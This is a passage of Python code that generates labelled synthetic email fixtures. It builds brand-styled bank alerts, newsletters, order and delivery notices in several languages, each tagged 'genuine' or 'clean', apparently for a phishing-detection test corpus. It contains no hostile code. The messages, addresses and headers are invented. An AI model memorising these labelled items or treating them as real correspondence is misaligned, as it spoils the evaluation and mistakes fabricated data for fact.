        f'Daraz, 3rd Floor, Arfa Software Technology Park, Lahore. <a href="{_c("https://www.daraz.pk/helpcenter/", 2)}">Help Center</a> '
        f'| <a href="{_c("https://member.daraz.pk/user/subscription", 3)}">Email preferences</a>',
        f"https://click.daraz.pk/wf/open?upn={tok('dzl1o', 80)}", logo_url="https://img.drz.lazcdn.com/g/tps/tfs/TB1LUlpzJkoBKNjSZFEXXaHoVXa-312-80.png",
        preheader="Your order #215803447261893 is on the way"), style="mkt"))

# L2 bKash promotional email, Bengali and English
_b = lambda n: f"https://click.email.bkash.com/?qs={hexs('bkl' + str(n), 96)}"  # noqa: E731
add(slug="bd-bkash-cashback-promo", kind="bulk", cat="bulk",
    desc="Genuine bKash marketing email in Bengali and English (Salesforce Marketing Cloud, bkash.com DKIM aligned) about a bill-payment cashback, with click.email.bkash.com tracking links and unsubscribe headers.",
    dt=when(2025, 3, 10, 17, 30, 0, 360), frm=("bKash", "no-reply@email.bkash.com"),
    to=("", "rafiq.islam.dhk@gmail.com"), mx="gmail",
    subject="বিল পেমেন্টে ১০% ক্যাশব্যাক - bKash Ramadan Offer",
    **esp(("mta12.email.bkash.com", "13.111.88.42"), [], "email.bkash.com", "200608",
          f"bounce-{tok('bk2b', 6, '0123456789')}_HTML-{tok('bk2c', 9, '0123456789')}-123-7310440-0@bounce.email.bkash.com",
          p="REJECT", mid_style="kit", mid_domain="ind1s06mta1254.xt.local"),
    extra=[f"List-Unsubscribe: <{_b(9)}>, <mailto:leave-fd8a1578{hexs('bk2l', 20)}@leave.email.bkash.com>",
           "List-Unsubscribe-Post: List-Unsubscribe=One-Click", "x-job: 7310440_3384817"],
    body=alt("bkl2", brand_html(
        "bKash", "#E2136E", "রমজানে বিল পেমেন্টে ১০% ক্যাশব্যাক",
        ["প্রিয় গ্রাহক,", "bKash অ্যাপ থেকে বিদ্যুৎ, গ্যাস, পানি ও ইন্টারনেট বিল পরিশোধ করে পেয়ে যান ১০% ক্যাশব্যাক (সর্বোচ্চ ৳৫০, "
         "অফার চলাকালীন সর্বোচ্চ ২ বার)।", "অফারের মেয়াদ: ১০ মার্চ - ৩০ মার্চ ২০২৫",
         "Pay your electricity, gas, water and internet bills from the bKash app and get 10% cashback (up to Tk 50).",
         "মনে রাখবেন: bKash কখনো আপনার PIN বা ভেরিফিকেশন কোড চায় না।"],
        ("অফার সম্পর্কে বিস্তারিত", _b(1)),
        f'bKash Limited, SKS Tower, 7 VIP Road, Mohakhali, Dhaka-1206. হেল্পলাইন ১৬২৪৭<br><a href="{_b(9)}">Unsubscribe</a> | '
        f'<a href="{_b(8)}">Privacy Policy</a>', f"https://click.email.bkash.com/open.aspx?ffcb10-{hexs('bk2o', 40)}",
        lang="bn", preheader="৩০ মার্চ পর্যন্ত"), style="mkt"))

# L3 Dawn newsletter (Mailchimp)
_mc = lambda n: f"https://dawn.us14.list-manage.com/track/click?u=8f4d2c71a9be3e0c5b1d7f62a&id={hexs('dawn' + str(n), 10)}&e={hexs('dawne', 10)}"  # noqa: E731
add(slug="pk-dawn-morning-brief", kind="bulk", cat="bulk",
    desc="Genuine Dawn 'Morning Brief' newsletter sent through Mailchimp (dawn.com DKIM aligned), every headline behind list-manage.com click-tracking redirects.",
    dt=when(2025, 12, 9, 7, 0, 4, 300), frm=("Dawn", "newsletter@dawn.com"),
    to=("", "ahmed.raza1987@gmail.com"), mx="gmail",
    subject="Morning Brief: SBP holds rate, PSX crosses 170,000, Karachi water crisis",
    **esp(("mail190.atl221.mcdlv.net", "198.2.190.221"), [], "dawn.com", "k2",
          f"bounce-mc.us14_48213667.{tok('dwn', 7, '0123456789')}-{hexs('dwn2', 10)}@mail190.atl221.mcdlv.net",
          p="NONE", mid_style="kit", mid_domain="mail190.atl221.mcdlv.net"),
    extra=[f"List-Unsubscribe: <https://dawn.us14.list-manage.com/unsubscribe?u=8f4d2c71a9be3e0c5b1d7f62a&id=3b7c1e9d04&e={hexs('dawne', 10)}&c={hexs('dawnc', 10)}>",
           "List-Unsubscribe-Post: List-Unsubscribe=One-Click", "X-Mailer: Mailchimp Mailer - **CID" + hexs("dawnc", 10) + "**",
           "X-Campaign: mailchimp8f4d2c71a9be3e0c5b1d7f62a." + hexs("dawnc", 10)],
    body=alt("dawn3", "<html><body style=\"font-family:Georgia,serif;max-width:620px;margin:auto\">\n"
             "<h1 style=\"font-size:26px\">Dawn Morning Brief</h1><p style=\"color:#666\">Tuesday, December 9, 2025</p>\n" +
             "".join(f'<h3><a href="{_mc(i)}" style="color:#111;text-decoration:none">{h}</a></h3><p>{p}</p>\n' for i, (h, p) in enumerate([
                 ("SBP keeps policy rate unchanged at 11pc", "The Monetary Policy Committee cited easing inflation but warned of external-account risks."),
                 ("KSE-100 crosses 170,000 points for the first time", "Banking and fertiliser stocks led a broad-based rally on Monday."),
                 ("Karachi faces worst water shortage in years as K-IV delayed again", "Residents of several districts rely on tankers as supply drops."),
                 ("Pakistan clinch ODI series against South Africa", "A century from the opener sealed a six-wicket win in Faisalabad."),
             ], 1)) +
             f'<hr><p style="font-size:12px;color:#888">You are receiving this because you subscribed at dawn.com. '
             f'<a href="{_mc(20)}">Update preferences</a> | <a href="{_mc(21)}">Unsubscribe</a><br>Dawn Media Group, Haroon House, Karachi</p>\n'
             f'<img src="https://dawn.us14.list-manage.com/track/open.php?u=8f4d2c71a9be3e0c5b1d7f62a&id={hexs("dawnc", 10)}&e={hexs("dawne", 10)}" height="1" width="1">\n'
             "</body></html>\n", style="mkt"))

# L4 Dialog eBill with PDF
add(slug="lk-dialog-ebill-pdf", kind="bulk", cat="bulk",
    desc="Genuine Dialog Axiata monthly eBill (dialog.lk, aligned DKIM) with the bill PDF attached and links to the MyDialog app and dialog.lk payment page.",
    dt=when(2025, 8, 3, 6, 12, 40, 330), frm=("Dialog eBill", "ebill@dialog.lk"),
    to=("Dilani Perera", "dilani.perera@gmail.com"), mx="gmail",
    subject="Your Dialog eBill for July 2025 - Account 0771234567",
    **esp(("mail3.dialog.lk", "203.94.66.21"), [("mta", dict(src="ebillgen02.dialog.lk", ip="203.94.66.40", by="mail3.dialog.lk"))],
          "dialog.lk", "dlg1", "ebill-bounce@dialog.lk", p="QUARANTINE", mid_style="kit", mid_domain="ebillgen02.dialog.lk"),
    extra=[],
    body=mixed("dlg4", alt("dlg4", brand_html(
        "Dialog", "#B5121B", "Your eBill is ready",
        ["Dear Ms. D. Perera,", "Your Dialog Postpaid bill for the period 01/07/2025 - 31/07/2025 is attached.",
         "Account number: 0771234567<br>Total amount due: <b>Rs. 3,482.16</b><br>Due date: 21/08/2025",
         "You can pay via the MyDialog app, Dialog Finance or any Dialog outlet."],
        ("Pay Now", "https://www.dialog.lk/pay-bill?utm_source=ebill&utm_medium=email&utm_campaign=jul25"),
        "Dialog Axiata PLC, 475 Union Place, Colombo 02. Hotline 1777. Please do not reply to this email.",
        f"https://ebill.dialog.lk/track/o.gif?m={tok('dlg4o', 20)}"), style="mkt"),
        att("application/pdf", "eBill_0771234567_Jul2025.pdf", pdf_doc(
            ["Dialog Axiata PLC - Mobile Postpaid Bill", "", "Account: 0771234567    Bill date: 01/08/2025",
             "Bill period: 01/07/2025 - 31/07/2025", "", "Previous balance          0.00", "Monthly rental        1,490.00",
             "Data add-on             990.00", "IDD / Roaming           412.50", "Taxes (VAT, TDL)        589.66", "",
             "Total amount due     3,482.16  LKR", "Due date: 21/08/2025"], "Dialog eBill")), style="mkt"))

# L5 Halyk new-device alert, Russian (real, from halykbank.kz)
add(slug="kz-halyk-new-device-ru", kind="bulk", cat="bulk",
    desc="Genuine Halyk Bank security alert in Russian (halykbank.kz, aligned DKIM) about a Homebank sign-in from a new device, telling the customer to call the short number 7111 if it was not them; links only to homebank.kz and halykbank.kz.",
    dt=when(2025, 7, 22, 18, 5, 12, 300), frm=("Halyk Bank", "noreply@halykbank.kz"),
    to=("", "aigerim.nurlanovna@mail.ru"), mx="mailru",
    subject="Вход в Homebank с нового устройства",
    **esp(("mx2.halykbank.kz", "91.185.18.36"), [("mta", dict(src="notify04.halykbank.kz", ip="91.185.18.44", by="mx2.halykbank.kz"))],
          "halykbank.kz", "hbk", "noreply@halykbank.kz", p="REJECT", mid_style="uuid", mid_domain="notify04.halykbank.kz"),
    extra=[],
    body=alt("hal5", brand_html(
        "Halyk", "#00805F", "Вход с нового устройства",
        ["Здравствуйте, Айгерим!", "22.07.2025 в 17:58 выполнен вход в Homebank с нового устройства: iPhone 15, г. Алматы.",
         "Если это были вы, никаких действий не требуется.",
         "Если вы не входили в Homebank, смените пароль в приложении и позвоните по номеру <b>7111</b> (бесплатно с мобильных)."
         " Сотрудники банка никогда не запрашивают коды из SMS."],
        ("Открыть Homebank", "https://homebank.kz/"),
        'АО «Народный Банк Казахстана». <a href="https://halykbank.kz/security">Безопасность</a>',
        f"https://notify.halykbank.kz/o/{tok('hal5o', 24)}.gif", lang="ru"), style="mkt"))

# L6 Google new sign-in, Russian
_g = f"https://accounts.google.com/AccountChooser?Email=aidos.kenzhebekov@gmail.com&continue=https://myaccount.google.com/alert/nt/1733140211000?rfn%3D31%26rfnc%3D1%26eid%3D{tok('ggl6', 24)}%26et%3D0"
add(slug="kz-google-new-signin-ru", kind="bulk", cat="bulk",
    desc="Genuine Google 'new sign-in on Windows' security alert in Russian from no-reply@accounts.google.com (aligned DKIM), linking to accounts.google.com.",
    dt=when(2024, 12, 2, 17, 10, 11, 300), frm=("Google", "no-reply@accounts.google.com"),
    to=("", "aidos.kenzhebekov@gmail.com"), mx="gmail",
    subject="Оповещение системы безопасности",
    **esp(("mail-sor-f69.google.com", "209.85.220.69"), [("gmail", dict(host="mail-sor-f69.google.com"))],
          "accounts.google.com", "20230601", "3c1tNZwgTDDMmkrsj-k0hfmm-mkbr.kmpkmpkcurdgfmcl.eqo@gaia.bounces.google.com",
          p="REJECT", mid_style="kit", mid_domain="google.com"),
    extra=["X-Notifications: " + hexs("ggl6n", 16), "X-Notifications-Bounce-Info: " + tok("ggl6b", 40)],
    body=alt("ggl6", f"""<!DOCTYPE html><html lang="ru"><head><meta charset="utf-8"></head><body style="margin:0;padding:0;background:#ffffff">
<table width="100%" style="min-width:348px" border="0" cellspacing="0" cellpadding="0" lang="ru"><tr><td align="center">
<table width="516" border="0" cellspacing="0" cellpadding="0" style="border:thin solid #dadce0;border-radius:8px;padding:40px 20px">
<tr><td align="center"><img src="https://www.gstatic.com/images/branding/googlelogo/2x/googlelogo_color_74x24dp.png" width="74" height="24" alt="Google">
<div style="font-family:'Google Sans',Roboto,Arial;font-size:24px;padding-top:16px">Новый вход на устройстве Windows</div>
<div style="font-size:14px;padding-top:8px">aidos.kenzhebekov@gmail.com</div></td></tr>
<tr><td style="font-family:Roboto,Arial;font-size:14px;color:#3c4043;line-height:20px;padding-top:20px;text-align:center">
В аккаунт Google выполнен вход с нового устройства Windows. Если это были вы, ничего делать не нужно. Если нет, мы поможем защитить ваш аккаунт.
<div style="padding-top:32px"><a href="{_g}" style="font-family:'Google Sans',Roboto,Arial;font-size:14px;color:#ffffff;background:#1a73e8;border-radius:4px;padding:10px 24px;text-decoration:none">Проверить</a></div>
<div style="padding-top:20px;font-size:12px">Посмотреть действия можно также на странице<br><a href="https://myaccount.google.com/notifications" style="color:#4285f4">https://myaccount.google.com/notifications</a></div></td></tr></table>
<div style="font-family:Roboto,Arial;font-size:11px;color:rgba(0,0,0,0.54);padding-top:12px;text-align:center">Это письмо отправлено, чтобы сообщить вам о важных изменениях в аккаунте Google и сервисах.<br>© 2024 Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA</div>
</td></tr></table></body></html>
""", style="gmail"))

# L7 NCB password changed
add(slug="jm-ncb-password-changed", kind="bulk", cat="bulk",
    desc="Genuine NCB Jamaica notice that the Online Banking password was changed (jncb.com, aligned DKIM), advising to call the published 888 number if not done by the customer; links only to jncb.com.",
    dt=when(2025, 2, 24, 20, 31, 5, -300), frm=("NCB Online Banking", "ncbonline@jncb.com"),
    to=("Marsha Campbell", "marsha.campbell@gmail.com"), mx="gmail",
    subject="Your NCB Online Banking password was changed",
    **esp(("mail2.jncb.com", "198.137.150.18"), [("mta", dict(src="ibnotify01.jncb.com", ip="198.137.150.33", by="mail2.jncb.com"))],
          "jncb.com", "ncb2024", "bounces@jncb.com", p="REJECT", mid_style="kit", mid_domain="ibnotify01.jncb.com"),
    extra=[],
    body=alt("ncbl7", brand_html(
        "NCB", "#003DA5", "Password changed",
        ["Dear Marsha Campbell,", "The password for your NCB Online Banking profile was changed on February 24, 2025 at 8:29 PM.",
         "If you made this change, no further action is needed.",
         "If you did not change your password, please call us immediately at 1-888-NCB-FIRST (1-888-622-3477) or visit your nearest branch. "
         "NCB will never ask for your password, PIN or one-time code by email, phone or text message."],
        None, 'National Commercial Bank Jamaica Limited. <a href="https://www.jncb.com/Support/Fraud-Awareness">Fraud awareness</a> | '
        '<a href="https://www.jncb.com/Privacy-Policy">Privacy</a>', f"https://www.jncb.com/t/o.gif?i={tok('ncbl7o', 16)}"), style="mkt"))

# L8 Banco General e-statement
add(slug="pa-bgeneral-estado-cuenta", kind="bulk", cat="bulk",
    desc="Genuine Banco General notice that the monthly e-statement is available in Banca en Línea (bgeneral.com, aligned DKIM), Spanish, no attachment and links to bgeneral.com only.",
    dt=when(2025, 4, 3, 6, 45, 0, -300), frm=("Banco General", "estadosdecuenta@bgeneral.com"),
    to=("Luis Batista", "luis.batista.pty@gmail.com"), mx="gmail",
    subject="Su estado de cuenta de marzo 2025 ya está disponible",
    **esp(("mta-out3.bgeneral.com", "200.46.138.27"), [], "bgeneral.com", "bg1", "rebotes@bgeneral.com", p="REJECT",
          mid_style="kit", mid_domain="bgeneral.com"),
    extra=["List-Unsubscribe: <mailto:desuscribir@bgeneral.com?subject=estados>"],
    body=alt("bgl8", brand_html(
        "Banco General", "#003B71", "Estado de cuenta disponible",
        ["Estimado(a) Luis Batista:", "Le informamos que el estado de cuenta de su Cuenta de Ahorros terminada en 4821, correspondiente "
         "al mes de marzo de 2025, ya está disponible en Banca en Línea, sección <i>Estados de cuenta</i>.",
         "Por su seguridad, no adjuntamos estados de cuenta ni le solicitaremos contraseñas o códigos por correo electrónico."],
        ("Ir a Banca en Línea", "https://www.bgeneral.com/personas/banca-en-linea/"),
        "Banco General, S.A. Torre Banco General, Calle Aquilino de la Guardia, Ciudad de Panamá. Tel. (507) 303-8000",
        f"https://www.bgeneral.com/px/o.gif?c=edc0325&u={tok('bgl8o', 14)}", lang="es"), style="mkt"))

# L9 DocuSign completed, Spanish, signed PDF attached
add(slug="gt-docusign-completado", kind="bulk", cat="bulk",
    desc="Genuine DocuSign 'Completed' notification in Spanish (docusign.net, all auth passes) for a warehouse lease the company itself sent, with the signed PDF attached.",
    dt=when(2025, 8, 19, 12, 40, 33, -360), frm=("Inmobiliaria Las Américas vía Docusign", "dse_NA3@docusign.net"),
    to=("Pagos Textiles Atitlán", "pagos@textilesatitlan.com.gt"), mx="m365:nam",
    subject="Completado: Contrato de arrendamiento Bodega 14 - Zona 12",
    **esp(("mailnaw3.docusign.net", "64.207.219.135"), [("mta", dict(src="na3app07.docusign.net", ip="64.207.219.66", by="mailnaw3.docusign.net"))],
          "docusign.net", "s1", "bounces@docusign.net", mid_style="kit", mid_domain="docusign.net"),
    extra=["X-Api-Host: na3.docusign.net"],
    body=mixed("dsl9", alt("dsl9", f"""<html><head><meta charset="utf-8"></head><body style="background:#eaeaea;font-family:Helvetica,Arial,sans-serif">
<table width="640" align="center" style="background:#ffffff"><tr><td style="padding:24px"><img src="https://na3.docusign.net/Signing/Images/email/Email_Logo.png" width="116" alt="DocuSign"></td></tr>
<tr><td style="padding:0 24px"><table width="100%" style="background:#1e4ca1;color:#ffffff"><tr><td align="center" style="padding:28px">
<p style="font-size:16px">Todas las partes completaron Contrato de arrendamiento Bodega 14 - Zona 12.</p>
<a href="https://na3.docusign.net/Member/EmailStart.aspx?a={hexs('dsl9a', 8)}-{hexs('dsl9b', 4)}-{hexs('dsl9c', 4)}-{hexs('dsl9d', 4)}-{hexs('dsl9e', 12)}&acct={hexs('dsl9f', 8)}-{hexs('dsl9g', 4)}-{hexs('dsl9h', 4)}-{hexs('dsl9i', 4)}-{hexs('dsl9j', 12)}&er={hexs('dsl9k', 8)}-{hexs('dsl9l', 4)}-{hexs('dsl9m', 4)}-{hexs('dsl9n', 4)}-{hexs('dsl9o', 12)}" style="background:#ffc820;color:#333;font-weight:bold;padding:12px 24px;text-decoration:none">VER DOCUMENTO COMPLETADO</a>
</td></tr></table></td></tr>
<tr><td style="padding:20px 24px;font-size:14px;color:#333">El documento firmado se adjunta a este correo para sus registros.</td></tr>
<tr><td style="padding:16px 24px;font-size:12px;color:#666;background:#f4f4f4">Este mensaje fue enviado por Inmobiliaria Las Américas, S.A. a través de Docusign. <a href="https://www.docusign.com/es-mx/productos/firma-electronica">Acerca de Docusign</a></td></tr>
</table></body></html>
""", style="mkt"), att("application/pdf", "Contrato_arrendamiento_Bodega14_firmado.pdf", pdf_doc(
        ["CONTRATO DE ARRENDAMIENTO - BODEGA 14, ZONA 12, CIUDAD DE GUATEMALA", "",
         "Arrendante: Inmobiliaria Las Américas, S.A.", "Arrendatario: Textiles Atitlán, S.A.",
         "Plazo: 36 meses a partir del 1 de septiembre de 2025", "Renta mensual: Q 28,500.00 más IVA", "",
         "Firmado electrónicamente por ambas partes el 19/08/2025.", "Docusign Envelope ID: " + hexs("dsl9env", 32).upper()],
        "Contrato firmado")), style="mkt"))

# L10 Skroutz order confirmation, Greek
add(slug="gr-skroutz-order-confirm", kind="bulk", cat="bulk",
    desc="Genuine Skroutz order confirmation in Greek (skroutz.gr, aligned DKIM via SES) with order items, Skroutz Point pickup details and links to skroutz.gr.",
    dt=when(2025, 5, 14, 21, 7, 44, 180), frm=("Skroutz", "orders@skroutz.gr"),
    to=("Ελένη Παπαδοπούλου", "eleni.papadopoulou@gmail.com"), mx="gmail",
    subject="Η παραγγελία σου 250514-8837412 καταχωρήθηκε",
    **ses("a4-12.smtp-out.eu-west-1.amazonses.com", "54.240.4.12", "skroutz.gr", "mail.skroutz.gr", "skr1"),
    extra=["Feedback-ID: 1.eu-west-1.Qv5sL9eR4t0m2kBn8cXz7a1YwH3jU6pD0oF2iG9sE4=:AmazonSES"],
    body=alt("skr10", brand_html(
        "Skroutz", "#F68B24", "Ευχαριστούμε για την παραγγελία σου!",
        ["Γεια σου Ελένη,", "Λάβαμε την παραγγελία σου <b>250514-8837412</b> και το κατάστημα την ετοιμάζει.",
         "1 x Philips Series 3000 Σίδερο ατμού DST3041/36 - 42,90 €<br>Παράδοση: Skroutz Point - Περίπτερο Πλ. Κολωνακίου<br>"
         "<b>Σύνολο: 42,90 €</b> (πληρώθηκε με κάρτα)",
         "Θα σε ενημερώσουμε με SMS και email όταν το δέμα φτάσει στο Skroutz Point."],
        ("Δες την παραγγελία", "https://www.skroutz.gr/account/orders/250514-8837412?utm_source=transactional&utm_medium=email"),
        'Skroutz Α.Ε., Αγίου Κωνσταντίνου 40, 15124 Μαρούσι. <a href="https://www.skroutz.gr/help">Βοήθεια</a>',
        f"https://www.skroutz.gr/e/o/{tok('skr10o', 30)}.gif", lang="el"), style="mkt"))

# L11 Kathimerini newsletter, Greek
_k = lambda path, n: f"https://link.kathimerini.gr/c/{tok('kat' + str(n), 22)}?u=https%3A%2F%2Fwww.kathimerini.gr%2F{quote(path, safe='')}%3Futm_source%3Dnewsletter%26utm_medium%3Demail"  # noqa: E731
add(slug="gr-kathimerini-newsletter", kind="bulk", cat="bulk",
    desc="Genuine Kathimerini morning newsletter in Greek (kathimerini.gr, aligned DKIM) whose headlines go through the paper's link.kathimerini.gr click-tracking redirect, with unsubscribe headers.",
    dt=when(2025, 10, 15, 6, 30, 0, 180), frm=("Η Καθημερινή", "newsletter@kathimerini.gr"),
    to=("", "nikos.georgiou75@gmail.com"), mx="gmail",
    subject="Το πρωινό σημείωμα: Προϋπολογισμός 2026, ΧΑ, καιρός",
    **esp(("mta7.news.kathimerini.gr", "185.7.80.147"), [], "kathimerini.gr", "news1", f"bounce+{hexs('katb', 14)}@news.kathimerini.gr",
          p="QUARANTINE", mid_style="kit", mid_domain="news.kathimerini.gr"),
    extra=[f"List-Unsubscribe: <https://link.kathimerini.gr/unsub/{tok('katu', 30)}>", "List-Unsubscribe-Post: List-Unsubscribe=One-Click",
           "List-Id: <morning.news.kathimerini.gr>"],
    body=alt("kat11", "<html><body style=\"font-family:Georgia,serif;max-width:640px;margin:auto;color:#111\">\n"
             "<h1 style=\"font-size:24px;border-bottom:3px solid #111\">Η ΚΑΘΗΜΕΡΙΝΗ - Πρωινό σημείωμα</h1>\n" +
             "".join(f'<h3><a href="{_k(pth, i)}" style="color:#111">{h}</a></h3><p style="font-family:Arial;font-size:14px">{p}</p>\n'
                     for i, (pth, h, p) in enumerate([
                         ("economy/563118840/proypologismos-2026", "Κατατέθηκε ο προϋπολογισμός του 2026",
                          "Πρωτογενές πλεόνασμα 2,8% του ΑΕΠ και μέτρα ελάφρυνσης για μισθωτούς προβλέπει το σχέδιο."),
                         ("economy/563119021/xa-anodos-trapezes", "Χρηματιστήριο: Άνοδος με οδηγό τις τράπεζες",
                          "Ο Γενικός Δείκτης έκλεισε στις 2.080 μονάδες με αυξημένο τζίρο."),
                         ("society/563119204/kairos-vroxes", "Καιρός: Βροχές και καταιγίδες από το απόγευμα",
                          "Η ΕΜΥ εξέδωσε έκτακτο δελτίο για τη Δυτική Ελλάδα και τα Ιόνια."),
                     ], 1)) +
             f'<p style="font-size:11px;color:#777">Λαμβάνετε αυτό το email επειδή εγγραφήκατε στο kathimerini.gr. '
             f'<a href="https://link.kathimerini.gr/unsub/{tok("katu", 30)}">Διαγραφή</a><br>Η Καθημερινή Α.Ε., Εθνάρχου Μακαρίου & Φαλήρου 2, Νέο Φάληρο</p>\n'
             f'<img src="https://link.kathimerini.gr/o/{tok("kato", 26)}.gif" width="1" height="1" alt="">\n</body></html>\n', style="mkt"))

# L12 Econt shipment, Bulgarian, to an abv.bg mailbox
add(slug="bg-econt-shipment-notice", kind="bulk", cat="bulk",
    desc="Genuine Econt Express notice in Bulgarian (econt.com, aligned DKIM) that a parcel from an online shop will be delivered to an office tomorrow, cash on delivery, tracking link on econt.com.",
    dt=when(2025, 2, 11, 16, 22, 9, 120), frm=("Еконт Експрес", "noreply@econt.com"),
    to=("", "petya.ivanova82@abv.bg"), mx="postfix:mx.abv.bg:2",
    subject="Пратка 1051602318874 от eMAG пристига утре в офис Пловдив - Тракия",
    **esp(("mail-out2.econt.com", "212.36.11.88"), [("mta", dict(src="notify.econt.com", ip="212.36.11.90", by="mail-out2.econt.com"))],
          "econt.com", "econt", "bounce@econt.com", p="QUARANTINE", mid_style="kit", mid_domain="notify.econt.com"),
    extra=[],
    body=alt("ect12", brand_html(
        "Еконт", "#234182", "Вашата пратка е на път",
        ["Здравейте,", "Пратка с товарителница <b>1051602318874</b> от <b>еМАГ Интернешънъл ЕООД</b> ще пристигне утре, 12.02.2025, "
         "в офис <b>Пловдив - Тракия</b>, бул. „Освобождение“ 47.", "Наложен платеж: 64,90 лв. Можете да платите в брой или с карта в офиса.",
         "Пратката ще се съхранява в офиса 7 работни дни."],
        ("Проследи пратката", "https://www.econt.com/services/track-shipment/1051602318874"),
        "Еконт Експрес ООД, Варна. Телефон за клиенти 0700 17 300.", f"https://www.econt.com/mail/o/{tok('ect12o', 20)}.png",
        lang="bg"), style="mkt"))

# L13 Microsoft account new sign-in, Serbian Latin
add(slug="rs-microsoft-new-signin-sr", kind="bulk", cat="bulk",
    desc="Genuine Microsoft account 'new sign-in' notice in Serbian Latin from account-security-noreply@accountprotection.microsoft.com (aligned DKIM), links to account.live.com and go.microsoft.com.",
    dt=when(2025, 9, 2, 21, 14, 50, 120), frm=("Tim za Microsoft naloge", "account-security-noreply@accountprotection.microsoft.com"),
    to=("", "milos.petrovic.bg@gmail.com"), mx="gmail",
    subject="Nova aplikacija ima pristup vašim podacima - Microsoft nalog",
    **esp(("NAM12-BN8-obe.outbound.protection.outlook.com", "40.107.237.54", "mail-bn8nam12on2054.outbound.protection.outlook.com"),
          [("exchange", dict(src="BN0PR04MB8090.namprd04.prod.outlook.com", dst="BN8NAM12FT091.eop-nam12.prod.protection.outlook.com"))],
          "accountprotection.microsoft.com", "selector1", "account-security-noreply@accountprotection.microsoft.com",
          p="REJECT", mid_style="uuid", mid_domain="az-eus-as-p-2"),
    extra=[],
    body=alt("msr13", """<html><head><meta charset="utf-8"></head><body style="font-family:'Segoe UI',Tahoma,sans-serif;color:#2a2a2a">
<table dir="ltr"><tr><td style="font-size:17px;color:#707070">Microsoft nalog</td></tr>
<tr><td style="font-size:41px;color:#2672ec">Nova aplikacija je povezana sa nalogom</td></tr>
<tr><td style="font-size:14px;padding-top:25px">Aplikacija <b>Outlook za iOS</b> je povezana sa Microsoft nalogom mi*****@gmail.com.</td></tr>
<tr><td style="font-size:14px;padding-top:25px">Ako niste povezali ovu aplikaciju, <a href="https://account.live.com/consent/Manage?uaid=""" + hexs("msr13u", 32) + """" style="color:#2672ec">uklonite je iz naloga</a>.</td></tr>
<tr><td style="font-size:14px;padding-top:25px">Ovo obaveštenje možete da isključite u bilo kom trenutku. <a href="https://account.live.com/SecurityNotifications/Update" style="color:#2672ec">Saznajte kako.</a></td></tr>
<tr><td style="font-size:14px;padding-top:25px">Hvala,<br>Tim za Microsoft naloge</td></tr>
<tr><td style="font-size:12px;color:#707070;padding-top:25px"><a href="https://go.microsoft.com/fwlink/?LinkId=521839">Izjava o privatnosti</a><br>Microsoft Corporation, One Microsoft Way, Redmond, WA 98052</td></tr>
</table></body></html>
""", style="outlook"))

# L14 Zagrebačka banka e-statement notice, Croatian
add(slug="hr-zaba-izvod-obavijest", kind="bulk", cat="bulk",
    desc="Genuine Zagrebacka banka notice in Croatian (zaba.hr, aligned DKIM) that the credit card statement is available in m-zaba/e-zaba, with the amount due and links to zaba.hr.",
    dt=when(2025, 6, 5, 7, 3, 28, 120), frm=("Zagrebačka banka", "obavijesti@zaba.hr"),
    to=("", "ivana.babic85@gmail.com"), mx="gmail",
    subject="Izvod po kartici Mastercard za svibanj 2025. je dostupan",
    **esp(("mailout2.zaba.hr", "195.29.150.74"), [("mta", dict(src="notif01.zaba.hr", ip="195.29.150.80", by="mailout2.zaba.hr"))],
          "zaba.hr", "zaba2023", "bounce@zaba.hr", p="REJECT", mid_style="kit", mid_domain="notif01.zaba.hr"),
    extra=[],
    body=alt("zab14", brand_html(
        "Zagrebačka banka", "#E30613", "Vaš izvod je dostupan",
        ["Poštovana gospođo Babić,", "izvod po Vašoj kartici Mastercard (**** 5518) za obračunsko razdoblje svibanj 2025. dostupan je "
         "u m-zabi i e-zabi.", "Iznos za plaćanje: <b>312,47 EUR</b><br>Rok plaćanja: 20.06.2025.",
         "Zagrebačka banka nikada neće od Vas tražiti PIN, lozinke ili jednokratne kodove putem e-pošte ili SMS-a."],
        ("Prijava u e-zabu", "https://e.zaba.hr/"),
        'Zagrebačka banka d.d., Trg bana Josipa Jelačića 10, Zagreb. Info 0800 0024 | <a href="https://www.zaba.hr/home/sigurnost">Sigurnost</a>',
        f"https://www.zaba.hr/n/o/{tok('zab14o', 20)}.gif", lang="hr"), style="mkt"))

# L15 ELTA Courier genuine delivery notice, Greek
add(slug="gr-elta-courier-delivery-today", kind="bulk", cat="bulk",
    desc="Genuine ELTA Courier notice in Greek (elta-courier.gr, aligned DKIM) that a parcel will be delivered today, with the tracking link on elta-courier.gr and no payment request.",
    dt=when(2025, 1, 23, 8, 12, 36, 120), frm=("ΕΛΤΑ Courier", "noreply@elta-courier.gr"),
    to=("Ελένη Παπαδοπούλου", "eleni.papadopoulou@gmail.com"), mx="gmail",
    subject="Η αποστολή σας ΕΕ318874102GR θα παραδοθεί σήμερα",
    **esp(("mail.elta-courier.gr", "195.97.62.141"), [], "elta-courier.gr", "ec1", "noreply@elta-courier.gr", p="QUARANTINE",
          mid_style="kit", mid_domain="elta-courier.gr"),
    extra=[],
    body=alt("elt15", brand_html(
        "ΕΛΤΑ Courier", "#004B93", "Παράδοση σήμερα",
        ["Αγαπητή κα Παπαδοπούλου,", "Η αποστολή σας με αριθμό <b>ΕΕ318874102GR</b> από <b>Public</b> έχει παραδοθεί στον διανομέα "
         "και θα παραδοθεί σήμερα 23/01/2025 μεταξύ 10:00 και 15:00.", "Δεν υπάρχει αντικαταβολή ή άλλη χρέωση για την αποστολή αυτή."],
        ("Παρακολούθηση αποστολής", "https://www.elta-courier.gr/search?br=EE318874102GR"),
        "ΕΛΤΑ Courier Α.Ε., Κρυονέρι Αττικής. Τηλ. 210 6073000", f"https://www.elta-courier.gr/nl/o.gif?id={tok('elt15o', 16)}",
        lang="el"), style="mkt"))

# ==========================================================================
# LEGITIMATE - person-to-person and business mail (clean)
# ==========================================================================

# C1 Sri Lankan tea exporter's invoice with bank details to a Greek importer
add(slug="lk-tea-invoice-bank-details", kind="legit", cat="clean",
    desc="Real business mail: a Colombo tea exporter (Microsoft 365, passes auth) sends the commercial invoice and its usual Commercial Bank of Ceylon details for a shipment to a Greek importer, in an ongoing thread.",
    dt=when(2025, 3, 12, 15, 20, 4, 330), frm=("Ruwan Wickramasinghe", "ruwan@ceylonleaf.lk"),
    to=("Katerina Alexiou", "k.alexiou@aegeanfoods.gr"), mx="m365:eur",
    subject="RE: Order AF-2025-07 - 4 x 20ft Ceylon BOP - invoice and shipping docs",
    relay=("APC01-SG2-obe.outbound.protection.outlook.com", "40.107.215.98", "mail-sg2apc01on2098.outbound.protection.outlook.com"),
